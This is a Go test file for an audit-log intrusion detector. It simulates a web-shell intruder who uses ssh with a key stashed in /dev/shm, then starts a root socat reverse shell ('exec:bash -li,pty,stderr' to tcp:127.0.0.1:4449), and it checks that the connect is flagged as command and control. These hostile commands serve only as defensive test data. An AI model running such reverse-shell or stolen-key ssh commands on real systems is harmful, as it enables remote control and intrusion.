package detect

import (
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestSSHSessionOfTheIntruder: the web account's ssh to a local account
// opens a login whose processes — through sudo, and a setsid -f that left
// socat under init as root — run in the intruder's channel by their audit
// session (shop-reviews). A login no intruder's ssh opened stays the
// account's own.
func TestSSHSessionOfTheIntruder(t *testing.T) {
	for _, tc := range []struct {
		name     string
		sshFirst bool // the web account's ssh connects just before the login
		want     bool
	}{
		{"after the web account's ssh", true, true},
		{"an admin's login, no ssh of the web account", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, s := webShellScene(t)
			e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/ssh", "ssh", "-i", "/dev/shm/.k", "deploy@127.0.0.1", "id"), s.tree)
			if tc.sshFirst {
				e.Observe(s.connect(202, 201, 33, "/usr/bin/ssh", "127.0.0.1", 22), s.tree)
			}
			// sshd's session process: the LOGIN record gives it ses 232
			e.Observe(s.next(&parser.Event{Kind: parser.KindLogin, RecordType: "LOGIN", Success: true, PID: 300, PPID: 1,
				UID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232), Exe: "/usr/sbin/sshd"}), s.tree)
			// socat as root under init, in the session
			socat := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 310, PPID: 1,
				UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232), User: "root",
				Exe: "/usr/bin/socat", Args: []string{"socat", "exec:bash -li,pty,stderr", "tcp:127.0.0.1:4449"}, Cwd: "/home/deploy"}
			e.Observe(s.next(socat), s.tree)
			conn := s.next(&parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, PID: 310, PPID: 1,
				UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232),
				Exe: "/usr/bin/socat", Peer: parser.Addr{Family: "inet", IP: "127.0.0.1", Port: 4449}})
			fs := e.Observe(conn, s.tree)
			f := findingOf(fs, "web-reverse-shell-connect")
			switch {
			case tc.want && (f == nil || f.Stage != StageCommandAndControl):
				t.Fatalf("socat's connect in the intruder's session: %v, want a reverse-shell connect on stage 7", f)
			case !tc.want && f != nil:
				t.Fatalf("socat's connect in an admin's session: %s fired", f.Title)
			}
		})
	}
}

// TestSSHSessionsUnpin: the tables of the intruder's ssh connects and the
// logins they opened pin an ssh process only while they list it. A
// session number that comes round again (a reboot, an archive of many
// days) replaced the older login's entry without taking back its pins,
// and a connect let go kept the pin its Retain took: on the pid-repeating
// log one ssh process and its ancestors a copy stayed in memory for good
// (2 GB: 46 600 pinned processes' ancestors, 26 100 after).
func TestSSHSessionsUnpin(t *testing.T) {
	e, s := webShellScene(t)
	const rounds = 2*DefaultRepeatsPerAct + 3*maxSSHOuts // past the findings kept of one act: the later ssh processes are cited by none
	var ssh []*parser.Process
	cited := map[*parser.Process]bool{} // pinned by a finding, as it should be
	note := func(fs []*Finding) {
		for _, f := range fs {
			cited[f.Process] = true
			if f.Event != nil {
				cited[f.Event.Proc] = true
			}
			for _, r := range f.Related {
				cited[r.Proc] = true
			}
		}
	}
	for i := range rounds {
		pid := 1000 + i
		ex := s.exec(pid, 201, 33, "www-data", "/var/www", "/usr/bin/ssh", "ssh", "-i", "/dev/shm/.k", "deploy@127.0.0.1", "id")
		note(e.Observe(ex, s.tree))
		note(e.Observe(s.connect(pid, 201, 33, "/usr/bin/ssh", "127.0.0.1", 22), s.tree))
		if i%2 == 0 { // every other connect opens a login, always session 232
			note(e.Observe(s.next(&parser.Event{Kind: parser.KindLogin, RecordType: "LOGIN", Success: true, PID: 5000 + i, PPID: 1,
				UID: parser.NewID(0), AUID: parser.NewID(2003), SES: parser.NewID(232), Exe: "/usr/sbin/sshd"}), s.tree))
		}
		ssh = append(ssh, ex.Proc)
		s.t = s.t.Add(time.Minute) // past sessionWindow: each connect is its own
	}
	pinned := 0
	for _, p := range ssh {
		if parser.Pinned(p) && !cited[p] {
			pinned++
		}
	}
	// the connects still listed, the one login, and the intrusion's
	// client connects a service may yet accept (viaservice.go)
	if most := maxSSHOuts + 1 + maxSvcConns; pinned > most {
		t.Errorf("%d of %d ssh processes pinned with no finding citing them; the tables list at most %d", pinned, rounds, most)
	}
	if pinned == 0 {
		t.Error("no ssh process pinned at all: the scene did not reach the tables, the test checks nothing")
	}
}
